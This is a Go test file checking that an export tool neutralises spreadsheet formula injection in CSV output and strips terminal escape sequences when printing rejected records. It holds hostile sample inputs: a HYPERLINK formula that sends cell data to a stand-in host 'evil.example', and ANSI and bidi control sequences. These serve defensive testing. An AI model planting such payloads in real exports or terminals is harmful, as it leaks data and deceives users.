package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"

	"sluice/pipeline/state"
)

// TestExportedFormulas proves that no text of the data is a formula in a CSV of rejects, and that JSON has it as it is.
func TestExportedFormulas(t *testing.T) {
	for text, want := range map[string]string{
		`=HYPERLINK("http://evil.example/?"&A1)`: `'=HYPERLINK("http://evil.example/?"&A1)`,
		"=1+1":                                   "'=1+1",
		"+1":                                     "'+1",
		"-1":                                     "'-1",
		"@SUM(A1)":                               "'@SUM(A1)",
		"\t=1":                                   "'\t=1",
		"\r=1":                                   "'\r=1",
		"a=1":                                    "a=1",
		"'=1":                                    "'=1",
		"10,2\n":                                 "10,2\n",
		"":                                       "",
		"property \"x\":":                        "property \"x\":",
	} {
		letters := []state.DeadLetter{{Pipeline: "p", Place: text, Key: text, Code: text, Message: text}}
		var out bytes.Buffer
		if err := exportRejects(&out, "csv", letters); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&out).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("%d rows, %v", len(rows), err)
		}
		for _, column := range []int{2, 3, 5, 7} {
			got := strings.ReplaceAll(rows[1][column], "\r\n", "\n")
			if got != want {
				t.Errorf("%s of %q is %q, want %q", rows[0][column], text, got, want)
			}
		}
		out.Reset()
		if err := exportRejects(&out, "jsonl", letters); err != nil {
			t.Fatal(err)
		}
		var back state.DeadLetter
		if err := json.Unmarshal(out.Bytes(), &back); err != nil || back.Message != text || back.Key != text {
			t.Errorf("as JSON %q is %q, %v", text, back.Message, err)
		}
	}
}

// TestRejectsOnATerminal proves that what stands in the data can't write to the terminal but where it stands.
func TestRejectsOnATerminal(t *testing.T) {
	var out bytes.Buffer
	evil := "a\x1b]0;owned\x07\x1b[2J\r\n\tb\u202ec\u009b31m"
	if err := printRejects(&out, []state.DeadLetter{{ID: 1, Pipeline: "p", Place: evil, Key: evil, Stage: "sink", Code: "c", State: "open", Message: evil}}); err != nil {
		t.Fatal(err)
	}
	if lines := strings.Split(strings.TrimSuffix(out.String(), "\n"), "\n"); len(lines) != 2 {
		t.Errorf("%d lines, want 2:\n%q", len(lines), out.String())
	}
	if at := strings.IndexAny(out.String(), "\x1b\x07\r\t\u202e\u009b"); at >= 0 {
		t.Errorf("a control character is printed: %q", out.String()[at:])
	}
}
